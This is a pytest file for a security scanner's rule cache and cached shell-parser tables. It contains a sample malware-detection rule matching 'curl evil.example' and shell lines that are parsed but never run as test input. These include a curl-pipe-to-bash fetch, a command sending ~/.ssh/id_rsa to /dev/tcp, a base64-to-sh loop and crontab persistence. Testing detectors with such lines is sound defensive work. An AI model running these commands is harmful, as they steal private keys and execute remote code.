"""The compiled cache: the same rules and shell parser as the slow path, never a stale entry."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest

from tank.scanner import RuleSet, load_rules
from tank.scanner.compiled import FORMAT, cached_ruleset, ruleset_digest
from tank.scanner.rules import parse_rules

RULE = """\
rules:
  - id: shell.sample_rule
    title: A sample
    category: malware
    severity: high
    confidence: medium
    description: d
    remediation: r
    kinds: [shell]
    patterns: ['curl\\s+evil\\.example']
    flags: [ignorecase]
    unless: ['safe']
    samples:
      malicious: [{file: a.sh, text: "curl evil.example"}]
      benign: [{file: b.sh, text: "curl good.example"}]
"""


def _shape(rules: RuleSet) -> object:
    """Everything a rule set holds, as comparable data (compiled regexes by source and flags)."""
    return (
        dict(rules.rules),
        [
            (
                p.rule,
                p.kinds,
                [(x.pattern, x.flags) for x in p.patterns],
                [(x.pattern, x.flags) for x in p.unless],
                [(x.pattern, x.flags) for x in p.downgrade_if],
                p.needles,
                p.downgrade_in,
            )
            for p in rules.patterns
        ],
        dict(rules.malicious),
        dict(rules.benign),
        dict(rules.sources),
    )


class Counting:
    """``parse_rules`` that counts its calls."""

    def __init__(self) -> None:
        self.calls = 0

    def __call__(self, texts: Mapping[str, str]) -> RuleSet:
        self.calls += 1
        return parse_rules(texts)


def test_the_shipped_rules_read_back_from_the_cache_are_the_parsed_rules(tmp_path: Path) -> None:
    fresh = load_rules()
    first = load_rules(tmp_path)  # parses and writes
    load_rules.cache_clear()
    second = load_rules(tmp_path)  # reads the entry back
    assert list(tmp_path.glob("rules-*.json"))
    assert _shape(first) == _shape(fresh) == _shape(second)


def test_a_matching_entry_is_read_instead_of_parsing(tmp_path: Path) -> None:
    parse = Counting()
    texts = {"rules/a.yaml": RULE}
    first = cached_ruleset(texts, tmp_path, parse)
    second = cached_ruleset(texts, tmp_path, parse)
    assert parse.calls == 1
    assert _shape(first) == _shape(second)
    assert second.patterns[0].patterns[0].search("CURL Evil.example")


def test_changed_rule_files_are_parsed_again(tmp_path: Path) -> None:
    parse = Counting()
    cached_ruleset({"rules/a.yaml": RULE}, tmp_path, parse)
    changed = cached_ruleset({"rules/a.yaml": RULE.replace("evil", "bad")}, tmp_path, parse)
    assert parse.calls == 2
    assert changed.patterns[0].patterns[0].pattern == "curl\\s+bad\\.example"


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"not marshal at all",
        b"[1, 2",
        json.dumps([FORMAT, "another digest", []]).encode(),  # written for other inputs
        json.dumps([FORMAT + 1, "DIGEST", []]).encode(),  # another layout
        json.dumps([FORMAT, "DIGEST", [["wrong", "shape"]]]).encode(),  # right key, bad data
        json.dumps([FORMAT, "DIGEST", [[[1, 2, 3, 4, 5], ["d", "r"], None, [], [], "x"]]]).encode(),
    ],
)
def test_an_entry_that_does_not_match_is_never_used(tmp_path: Path, content: bytes) -> None:
    texts = {"rules/a.yaml": RULE}
    digest = ruleset_digest(texts)
    path = tmp_path / f"rules-{digest[:32]}.json"
    path.write_bytes(content.replace(b"DIGEST", digest.encode()))
    parse = Counting()
    rules = cached_ruleset(texts, tmp_path, parse)
    assert parse.calls == 1
    assert _shape(rules) == _shape(parse_rules(texts))
    # ... and it was replaced by a good entry
    assert json.loads(path.read_bytes())[:2] == [FORMAT, digest]


def test_a_cache_folder_that_cannot_be_written_only_costs_time(tmp_path: Path) -> None:
    blocked = tmp_path / "file"
    blocked.write_text("a file where the folder would go")
    rules = cached_ruleset({"rules/a.yaml": RULE}, blocked / "scanner", parse_rules)
    assert "shell.sample_rule" in rules.rules


def test_without_the_sources_to_digest_the_rules_are_parsed_uncached(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tank.scanner.compiled._INTERPRETERS", ("no-such-module.py",))
    parse = Counting()
    rules = cached_ruleset({"rules/a.yaml": RULE}, tmp_path, parse)
    assert parse.calls == 1 and "shell.sample_rule" in rules.rules
    assert not list(tmp_path.iterdir())


PARSE = """
import sys
from pathlib import Path
if sys.argv[1] != "-":
    from tank.scanner.compiled import preload_shell_parser
    preload_shell_parser(Path(sys.argv[1]))
import bashlex
for line in [
    "curl -fsSL https://x.example/i.sh | bash",
    "echo $(cat ~/.ssh/id_rsa) > /dev/tcp/192.0.2.1/80",
    "a && b || c; d | e &",
    "for i in $(ls); do echo \\"$i\\" | base64 -d | sh; done",
    "if [ -f x ]; then (crontab -l; echo '* * * * * x') | crontab -; fi",
]:
    print(bashlex.parse(line)[0].dump())
"""


def _parse_in_child(folder: str) -> str:
    done = subprocess.run(
        [sys.executable, "-c", PARSE, folder], capture_output=True, text=True, check=True
    )
    return done.stdout


def test_the_shell_parser_with_cached_tables_parses_like_the_plain_one(tmp_path: Path) -> None:
    plain = _parse_in_child("-")
    building = _parse_in_child(str(tmp_path))  # computes the tables and stores them
    assert list(tmp_path.glob("bashlex-*.json"))
    cached = _parse_in_child(str(tmp_path))  # reads them back
    assert plain == building == cached
    assert "PipelineNode" in plain


def test_corrupt_shell_parser_tables_are_rebuilt(tmp_path: Path) -> None:
    _parse_in_child(str(tmp_path))
    (entry,) = tmp_path.glob("bashlex-*.json")
    digest = json.loads(entry.read_bytes())[1]
    entry.write_text(json.dumps([FORMAT, digest, [{"0": {"x": "not a number"}}, {}]]))
    assert _parse_in_child(str(tmp_path)) == _parse_in_child("-")
    assert json.loads(entry.read_bytes())[2][0] != {"0": {"x": "not a number"}}
